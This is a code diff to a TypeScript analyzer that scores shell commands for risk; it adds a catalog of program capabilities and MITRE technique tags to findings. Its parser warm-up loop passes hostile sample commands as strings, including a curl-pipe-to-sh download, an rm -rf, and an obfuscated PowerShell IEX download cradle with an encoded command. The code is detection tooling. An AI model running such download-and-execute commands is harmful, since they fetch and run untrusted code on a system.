@@ -10,6 +10,7 @@ import { rules } from './rules/index.js';
 import { collectFacts } from './facts.js';
 import { summarize } from './explain.js';
 import { redact } from './redact.js';
+import { builtinCatalog, type Catalog } from './catalog/catalog.js';
 import {
   defaultLimits, severityRank, verdictFor,
   type AnalyzeOptions, type Analyzer, type AnalyzerLimits, type Category, type CommandAnalysis, type Finding, type Risk, type Shell,
@@ -21,6 +22,8 @@ export interface CreateAnalyzerOptions {
   /** web-tree-sitter's own runtime (tree-sitter.wasm); when absent web-tree-sitter locates it itself. */
   runtimeWasm?: Uint8Array;
   limits?: Partial<AnalyzerLimits>;
+  /** Program capabilities and sensitive targets. @defaultValue the built-in catalog */
+  catalog?: Catalog;
   /** Monotonic clock in ms, injectable for tests. @defaultValue performance.now */
   now?: () => number;
 }
@@ -39,17 +42,18 @@ export async function createAnalyzer(opts: CreateAnalyzerOptions): Promise<Analy
   powershell.setLanguage(psLang);
   const limits: AnalyzerLimits = { ...defaultLimits, ...opts.limits };
   const now = opts.now ?? (() => performance.now());
+  const catalog = opts.catalog ?? builtinCatalog();
   // Warm the parsers and the JIT so the first real request is not the one that pays for it.
   const generous = { ...limits, timeBudgetMs: Math.max(limits.timeBudgetMs, 5000) };
   for (let i = 0; i < 3; i++) {
-    analyzeOnce({ bash, powershell }, generous, now, "curl -fsSL https://x.example/a | sh; echo $(id) 'a'\"b\"; rm -rf /tmp/x", 'bash');
-    analyzeOnce({ bash, powershell }, generous, now, "IEX (New-Object Net.WebClient).DownloadString('h'+'ttp://x'); powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", 'powershell');
-    analyzeOnce({ bash, powershell }, generous, now, 'cmd /c "echo a & dir" | findstr x', 'cmd');
+    analyzeOnce({ bash, powershell }, catalog, generous, now, "curl -fsSL https://x.example/a | sh; echo $(id) 'a'\"b\"; rm -rf /tmp/x", 'bash');
+    analyzeOnce({ bash, powershell }, catalog, generous, now, "IEX (New-Object Net.WebClient).DownloadString('h'+'ttp://x'); powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=", 'powershell');
+    analyzeOnce({ bash, powershell }, catalog, generous, now, 'cmd /c "echo a & dir" | findstr x', 'cmd');
   }
   return {
     analyze(command: string, options: AnalyzeOptions): CommandAnalysis {
       const t0 = performance.now();
-      const result = analyzeOnce({ bash, powershell }, limits, now, command, options.shell);
+      const result = analyzeOnce({ bash, powershell }, catalog, limits, now, command, options.shell);
       result.micros = Math.round((performance.now() - t0) * 1000);
       return result;
     },
@@ -58,7 +62,7 @@ export async function createAnalyzer(opts: CreateAnalyzerOptions): Promise<Analy
 
 const langOf = (shell: Shell): 'posix' | 'powershell' | 'cmd' => (shell === 'powershell' ? 'powershell' : shell === 'cmd' ? 'cmd' : 'posix');
 
-function analyzeOnce(parsers: { bash: Parser; powershell: Parser }, limits: AnalyzerLimits, now: () => number, input: string, shell: Shell): CommandAnalysis {
+function analyzeOnce(parsers: { bash: Parser; powershell: Parser }, catalog: Catalog, limits: AnalyzerLimits, now: () => number, input: string, shell: Shell): CommandAnalysis {
   const engine = new Engine(parsers, limits, input, shell, now);
   const whole = { start: 0, end: input.length };
   const identity = (s: number, e: number) => ({ start: s, end: e });
@@ -81,6 +85,7 @@ function analyzeOnce(parsers: { bash: Parser; powershell: Parser }, limits: Anal
     events: engine.events,
     psStatements: engine.psStatements,
     psScripts: engine.psScripts,
+    catalog,
   };
   const findings: Finding[] = [];
   const seen = new Set<string>();
@@ -90,14 +95,14 @@ function analyzeOnce(parsers: { bash: Parser; powershell: Parser }, limits: Anal
       hits = rule.check(ctx);
     } catch {
       hits = [{ span: whole, explanation: `rule ${rule.id} failed on this input` }];
-      findings.push({ rule: 'analysis_limit', category: 'unparseable', severity: 'critical', span: whole, explanation: `rule ${rule.id} failed on this input` });
+      findings.push({ rule: 'analysis_limit', category: 'unparseable', severity: 'critical', technique: 'T1027.010', span: whole, explanation: `rule ${rule.id} failed on this input` });
       continue;
     }
     for (const h of hits) {
       const key = `${rule.id}:${h.span.start}:${h.span.end}`;
       if (seen.has(key)) continue;
       seen.add(key);
-      findings.push({ rule: rule.id, category: rule.category, severity: rule.severity, span: h.span, explanation: redact(h.explanation) });
+      findings.push({ rule: rule.id, category: h.category ?? rule.category, severity: h.severity ?? rule.severity, technique: h.technique ?? rule.technique, span: h.span, explanation: redact(h.explanation) });
       if (findings.length > 200) break;
     }
   }
